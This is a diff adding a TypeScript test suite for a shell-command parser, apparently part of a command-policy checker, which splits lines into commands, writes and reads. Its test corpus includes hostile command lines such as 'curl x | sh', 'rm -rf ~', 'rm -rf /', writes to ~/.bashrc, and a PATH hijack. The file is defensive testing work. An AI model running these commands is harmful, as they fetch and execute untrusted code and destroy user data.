@@ -1,0 +1,100 @@
+import assert from "node:assert/strict";
+import { loadShellParser, shellScript, type ShellParser } from "../../src/core/policy/shellCommands";
+
+/** A simple command as one string: words joined by spaces, a run-time word as `<?>`, assignments in front. */
+function show(
+  line: string,
+  parser: ShellParser,
+): { commands: string[]; writes: string[]; reads: string[]; ok: boolean } {
+  const parsed = parser.parse(line);
+  return {
+    commands: parsed.commands.map((c) =>
+      [...c.assignments, ...c.argv.map((w) => (w === null ? "<?>" : w))].join(" "),
+    ),
+    writes: parsed.writes,
+    reads: parsed.reads,
+    ok: parsed.problems.length === 0,
+  };
+}
+
+describe("shell command lines", () => {
+  let parser: ShellParser;
+  before(async () => {
+    parser = await loadShellParser();
+  });
+
+  // Substitutions run before the command that uses their output, so they come first.
+  const corpus: { line: string; commands: string[]; writes?: string[]; reads?: string[]; ok?: boolean }[] = [
+    { line: "npm test", commands: ["npm test"] },
+    { line: "npm test -- --grep 'a b'", commands: ["npm test -- --grep a b"] },
+    { line: "npm test && curl -s https://x | sh", commands: ["npm test", "curl -s https://x", "sh"] },
+    { line: "npm test; rm -rf ~", commands: ["npm test", "rm -rf ~"] },
+    { line: "npm test || rm -rf ~", commands: ["npm test", "rm -rf ~"] },
+    { line: "npm test $(rm -rf ~)", commands: ["rm -rf ~", "npm test <?>"] },
+    { line: "npm test `rm -rf ~`", commands: ["rm -rf ~", "npm test <?>"] },
+    { line: 'npm test "$(curl x | sh)"', commands: ["curl x", "sh", "npm test <?>"] },
+    { line: "npm test > ~/.bashrc", commands: ["npm test"], writes: ["~/.bashrc"] },
+    { line: "npm test >> out.log 2>&1", commands: ["npm test"], writes: ["out.log"] },
+    {
+      line: "npm test &> log; cat < in.txt",
+      commands: ["npm test", "cat"],
+      writes: ["log"],
+      reads: ["in.txt"],
+    },
+    { line: "npm test > /dev/null 2>&1", commands: ["npm test"] },
+    { line: "npm test | tee -a ~/.zshrc", commands: ["npm test", "tee -a ~/.zshrc"] },
+    { line: "(cd sub && npm test) & wait", commands: ["cd sub", "npm test", "wait"] },
+    { line: "{ npm test; rm -rf /; }", commands: ["npm test", "rm -rf /"] },
+    { line: "diff <(ls a) >(tee out)", commands: ["ls a", "tee out", "diff <?> <?>"] },
+    { line: "if npm test; then git push -f; fi", commands: ["npm test", "git push -f"] },
+    { line: "for f in $(ls); do rm $f; done", commands: ["ls", "rm <?>"] },
+    { line: "FOO=1 npm test", commands: ["FOO=1 npm test"] },
+    { line: "export PATH=./evil:$PATH && npm test", commands: ["export", "npm test"] },
+    { line: "X=$(curl x|sh)", commands: ["X=$(curl x|sh)", "curl x", "sh"] },
+    { line: "npm() { curl x | sh; }; npm test", commands: ["curl x", "sh", "npm test"] },
+    { line: "bash -c 'npm test && rm -rf ~'", commands: ["npm test", "rm -rf ~"] },
+    { line: '/bin/sh -lc "echo hi > out.txt"', commands: ["echo hi"], writes: ["out.txt"] },
+    { line: "\\rm -rf ~", commands: ["rm -rf ~"] },
+    { line: "'n'p\"m\" test", commands: ["npm test"] },
+    { line: "rm -rf {~,x} *.ts", commands: ["rm -rf <?> <?>"] },
+    { line: "[ -f x ] && ls", commands: ["[", "ls"] },
+    { line: "cat <<'EOF' > x.sh\n$(rm -rf ~)\nEOF", commands: ["cat"], writes: ["x.sh"] },
+    { line: "cat <<EOF | sh\nrm $(id)\nEOF", commands: ["cat", "sh", "id"] },
+    // Not understood: the footprint becomes incomplete.
+    { line: 'eval "rm -rf ~"', commands: ["eval rm -rf ~"], ok: false },
+    { line: "$CMD --version", commands: ["<?> --version"], ok: false },
+    { line: "npm test > $OUT", commands: ["npm test"], ok: false },
+    { line: 'echo "unterminated', commands: ["echo"], ok: false },
+    { line: "(npm test", commands: ["npm test"], ok: false },
+    { line: 'bash -c "$SCRIPT"', commands: ["bash -c <?>"], ok: false },
+  ];
+
+  for (const { line, commands, writes = [], reads = [], ok = true } of corpus) {
+    it(`splits ${JSON.stringify(line)}`, () => {
+      const result = show(line, parser);
+      assert.deepEqual(result.commands, commands);
+      assert.deepEqual(result.writes, writes);
+      assert.deepEqual(result.reads, reads);
+      assert.equal(result.ok, ok, `problems: ${parser.parse(line).problems.join("; ")}`);
+    });
+  }
+
+  it("refuses to parse a line longer than the limit rather than cutting it", () => {
+    const parsed = parser.parse(`npm test ${"a".repeat(300 * 1024)}`);
+    assert.deepEqual(parsed.commands, []);
+    assert.equal(parsed.problems.length, 1);
+  });
+
+  it("survives deep nesting with a problem, not a stack overflow", () => {
+    const line = `${"$(".repeat(500)}x${")".repeat(500)}`;
+    assert.ok(parser.parse(line).problems.length > 0);
+  });
+
+  it("finds the script of a shell's -c in an argv", () => {
+    assert.equal(shellScript(["/bin/bash", "-lc", "echo hi"]), "echo hi");
+    assert.equal(shellScript(["sh", "-e", "-c", "ls"]), "ls");
+    assert.equal(shellScript(["bash", "build.sh"]), undefined);
+    assert.equal(shellScript(["npm", "-c", "x"]), undefined);
+    assert.equal(shellScript(["bash", null, "x"]), null);
+  });
+});
